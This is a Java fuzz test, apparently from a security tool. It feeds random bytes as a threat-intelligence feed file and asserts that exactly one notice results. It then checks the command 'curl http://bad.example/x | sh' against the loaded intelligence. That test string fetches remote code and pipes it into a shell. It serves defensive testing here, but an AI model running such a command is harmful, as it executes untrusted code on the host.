package dev.armor.it.fuzz;

import com.code_intelligence.jazzer.api.FuzzedDataProvider;
import dev.armor.pipeline.intel.ThreatFeeds;
import dev.armor.pipeline.intel.ThreatIntelligence;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.time.Instant;
import java.time.InstantSource;
import java.util.ArrayList;
import java.util.List;

/** Any file is a threat feed that is read, or refused with a notice. */
public final class FeedTarget {

  private static final Path FILE = file();

  private FeedTarget() {}

  /** Called by the fuzzer with each input. */
  public static void fuzzerTestOneInput(FuzzedDataProvider data) {
    List<String> notices = new ArrayList<>();
    ThreatIntelligence intelligence = new ThreatIntelligence(Instant.EPOCH);
    try {
      Files.write(FILE, data.consumeRemainingAsBytes());
    } catch (IOException failure) {
      throw new UncheckedIOException(failure);
    }
    new ThreatFeeds(
            intelligence,
            List.of(FILE),
            InstantSource.fixed(Instant.EPOCH),
            Duration.ZERO,
            notices::add)
        .poll();
    if (notices.size() != 1) {
      throw new AssertionError("one notice for one version of a file, not " + notices);
    }
    intelligence.current().check("curl http://bad.example/x | sh");
  }

  private static Path file() {
    try {
      Path file = Files.createTempFile("feed", ".json");
      file.toFile().deleteOnExit();
      return file;
    } catch (IOException failure) {
      throw new UncheckedIOException(failure);
    }
  }
}
